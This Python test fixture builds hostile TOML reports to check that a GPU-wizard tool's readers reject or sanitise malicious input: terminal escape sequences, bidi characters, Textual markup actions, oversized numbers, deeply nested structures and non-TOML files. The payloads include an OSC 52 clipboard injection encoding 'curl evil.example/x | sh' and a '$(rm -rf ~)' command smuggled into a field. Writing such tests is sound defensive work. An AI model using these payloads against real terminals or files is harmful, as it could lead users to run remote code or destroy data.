"""Hostile reports: what a student (or anyone who can hand a TA a file) might send.

Each attack starts from a real, valid report (student-zh.toml) and changes one thing: escape
sequences that retitle the terminal, fill its clipboard (OSC 52) or clear it; bidi overrides and
zero-width characters that make text read differently than it is; Textual markup and `@click`
actions; numbers too big to become floats; values of the wrong type or shape; keys and nesting
that make the TOML parser slow or recursive; dates at the ends of the calendar; and files that
are not TOML at all. The readers must answer each with exit 0, 1 or 2, a plain message, no
traceback, within a bound, and never pass a control character on to the terminal.
"""

from __future__ import annotations

import copy
import tomllib
from pathlib import Path
from typing import Any, Callable

import tomli_w

BASE = Path(__file__).with_name("student-zh.toml")

# What must never reach a terminal from a report: C0/C1 controls but newline, and the Unicode
# characters that reorder or hide text. The joiners U+200C and U+200D may: Persian words and
# emoji are spelled with them (wizard.text.output keeps them).
FORBIDDEN = {chr(c) for c in range(0x20) if chr(c) not in "\n"} | {chr(c) for c in range(0x7f, 0xa0)} \
    | set("\u061c\u200b\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\ufeff")

OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUveCB8IHNo\x07"   # "curl evil.example/x | sh" to the clipboard
TITLE = "\x1b]2;PWNED\x07"
CLEAR = "\x1b[2J\x1b[H\x1b[31m"
C1 = "\x9b31m\x9d0;c1\x9c"
BIDI = "\u202eevil\u202c\u2066x\u2069\u200b"


def base() -> dict[str, Any]:
    return tomllib.loads(BASE.read_text(encoding="utf-8"))


def _edit(change: Callable[[dict[str, Any]], None]) -> bytes:
    data = copy.deepcopy(base())
    change(data)
    return tomli_w.dumps(data).encode("utf-8")


def _set(*path: Any, value: Any) -> bytes:
    def change(data: dict[str, Any]) -> None:
        target = data
        for step in path[:-1]:
            target = target[step]
        target[path[-1]] = value
    return _edit(change)


def _raw(text: str) -> bytes:
    return text.encode("utf-8")


def _base_text() -> str:
    return BASE.read_text(encoding="utf-8")


def attacks() -> dict[str, bytes]:
    """name → file bytes. Built on demand (some are a megabyte)."""
    many_gpus = dict(base()["machine"]["gpus"][0], name="NVIDIA GeForce RTX 4060 Laptop GPU")
    return {
        # Escape sequences, in every kind of field a reader shows.
        "osc52-in-cpu-model": _set("machine", "cpu_model", value=OSC52 + "Intel Core"),
        "title-in-gpu-name": _set("machine", "gpus", 0, "name", value=TITLE + "RTX 4060" + CLEAR),
        "clear-in-headline": _set("recommendation", "headline", value=CLEAR + "All good" + OSC52),
        "c1-in-reason": _set("recommendation", "reasons", 0, value=C1 + "reason"),
        "escape-in-finding": _set("findings", 0, "title", value=TITLE + "title"),
        "escape-in-torch-message": _set("machine", "torch", "message", value="\x00\x08\x7f" + OSC52),
        "escape-in-unknown-key": _set("machine", "x" + TITLE, value=1),
        "escape-in-schema": _set("schema", value="gpu-wizard/report/1" + TITLE),
        "escape-in-interpreter": _set("machine", "torch", "interpreter", value=TITLE + "python"),
        # Text that reads differently than it is.
        "bidi-in-finding": _set("findings", 0, "title", value=BIDI + "safe"),
        "bidi-in-gpu-name": _set("machine", "gpus", 0, "name", value="RTX" + BIDI),
        # Textual markup and actions.
        "markup-close-in-goal": _set("answers", "goal", value="[/]"),
        "click-in-need-gpu": _set("answers", "need_gpu", value="[@click=app.quit]yes[/]"),
        "markup-in-headline": _set("recommendation", "headline", value="[b]x[/b] [@click=app.bell]y[/] [/]"),
        "markup-in-gpu-name": _set("machine", "gpus", 0, "name", value="[red]RTX[/] [@click=app.quit]go[/]"),
        # Numbers.
        "huge-ram": _set("machine", "ram_gb", value=10**400),
        "huge-budget": _set("answers", "budget_amount", value=10**400),
        "huge-cores": _set("machine", "cpu_cores", value=10**30),
        "inf-vram": _set("machine", "gpus", 0, "vram_gb", value=float("inf")),
        "nan-budget": _set("answers", "budget_amount", value=float("nan")),
        "negative-threads": _set("machine", "cpu_threads", value=-4),
        "int-of-5000-digits": _raw(_base_text() + "\nextra = " + "9" * 5000 + "\n"),
        # Types and shapes.
        "gpu-name-int": _set("machine", "gpus", 0, "name", value=12),
        "verdict-int": _set("recommendation", "verdict", value=5),
        "findings-ints": _set("findings", value=[1, 2]),
        "machine-text": _set("machine", value="x"),
        "answers-list": _set("answers", value=[1]),
        "reasons-tables": _set("recommendation", "reasons", value=[{"a": 1}]),
        "gpus-table": _set("machine", "gpus", value={"a": 1}),
        "created-text": _set("created", value="yesterday"),
        "torch-devices-text": _set("machine", "torch", "devices", value="cuda:0"),
        # Values that look like something they are not.
        "capability-abc": _set("machine", "gpus", 0, "compute_capability", value="abc"),
        "driver-shell": _set("machine", "nvidia", "driver_version", value="$(rm -rf ~)"),
        "python-version-words": _set("machine", "torch", "python_version", value="latest"),
        # The ends of the calendar.
        "created-year-1": _raw(_base_text().replace("created = 2026-11-30 15:03:03+00:00",
                                                    "created = 0001-01-01 00:00:00+08:00")),
        "created-year-9999": _raw(_base_text().replace("created = 2026-11-30 15:03:03+00:00",
                                                       "created = 9999-12-31 23:59:59-08:00")),
        "created-local": _raw(_base_text().replace("created = 2026-11-30 15:03:03+00:00",
                                                   "created = 2026-11-30 15:03:03")),
        # The parser itself.
        "long-dotted-key": _raw(_base_text() + "\n" + "a" + ".a" * 100_000 + " = 1\n"),
        "long-header": _raw(_base_text() + "\n[" + "a." * 50_000 + "a]\n"),
        "deep-arrays": _raw(_base_text() + "\nx = " + "[" * 100_000 + "]" * 100_000 + "\n"),
        "deep-inline-tables": _raw(_base_text() + "\nx = " + "{a=" * 50_000 + "1" + "}" * 50_000 + "\n"),
        "many-gpus": _set("machine", "gpus", value=[many_gpus] * 3000),
        "long-gpu-name": _set("machine", "gpus", 0, "name", value="RTX " * 200_000),
        "over-a-megabyte": _raw(_base_text() + "\n# " + "x" * 1_100_000 + "\n"),
        # Not TOML, or not text.
        "empty": b"",
        "binary": bytes(range(256)) * 4,
        "not-utf8": _base_text().encode("gbk"),
        "json": b'{"schema": "gpu-wizard/report/1"}',
        # Valid, only unusual: must be read as the report it is.
        "bom-and-crlf": b"\xef\xbb\xbf" + _base_text().replace("\n", "\r\n").encode("utf-8"),
    }


# The attacks a reader must accept as a valid report (exit 0): the rest may be refused (1 or 2).
VALID = {"bom-and-crlf", "created-year-1", "created-year-9999", "osc52-in-cpu-model",
         "title-in-gpu-name", "clear-in-headline", "c1-in-reason", "escape-in-finding",
         "escape-in-torch-message", "bidi-in-finding", "bidi-in-gpu-name", "markup-in-headline",
         "markup-in-gpu-name", "escape-in-interpreter", "escape-in-unknown-key"}


def write_all(folder: Path) -> dict[str, Path]:
    folder.mkdir(parents=True, exist_ok=True)
    paths = {}
    for name, data in attacks().items():
        path = folder / f"{name}.toml"
        path.write_bytes(data)
        paths[name] = path
    return paths


def forbidden_in(text: str) -> list[str]:
    """The forbidden characters in `text`, named (U+001B …), for an assertion message."""
    return sorted({f"U+{ord(c):04X}" for c in text if c in FORBIDDEN})
